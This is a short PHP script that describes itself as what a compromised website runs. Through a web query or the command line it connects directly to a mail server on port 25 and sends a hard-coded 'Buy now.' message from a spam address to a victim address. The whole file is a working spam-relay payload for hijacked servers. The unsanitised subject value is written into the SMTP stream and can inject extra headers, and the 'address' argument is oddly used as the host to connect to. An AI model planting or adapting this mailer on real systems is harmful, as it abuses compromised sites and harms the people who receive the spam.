<?php
// SPDX-License-Identifier: GPL-2.0-only
// What a compromised site runs: it takes a mail straight to the receiver. On the command line with
// ADDRESS SUBJECT, under a web server as send.php?to=ADDRESS&subject=SUBJECT.

function expect($connection, string $code): void
{
    do {
        $line = fgets($connection, 1024);
    } while ($line !== false && isset($line[3]) && $line[3] === '-');
    if ($line === false || strncmp($line, $code, 3) !== 0) {
        exit("expected $code, got $line");
    }
}

$to = $argv[1] ?? $_GET['to'];
$subject = $argv[2] ?? $_GET['subject'];
$connection = fsockopen($to, 25, $error, $message, 10) or exit($message);
expect($connection, '220');
$steps = [
    "EHLO shop.example" => '250',
    "MAIL FROM:<spam@shop.example>" => '250',
    "RCPT TO:<victim@mx.example>" => '250',
    "DATA" => '354',
    "Subject: $subject\r\n\r\nBuy now.\r\n." => '250',
    "QUIT" => '221',
];
foreach ($steps as $line => $code) {
    fwrite($connection, "$line\r\n");
    expect($connection, $code);
}
echo "sent by process " . getmypid() . "\n";
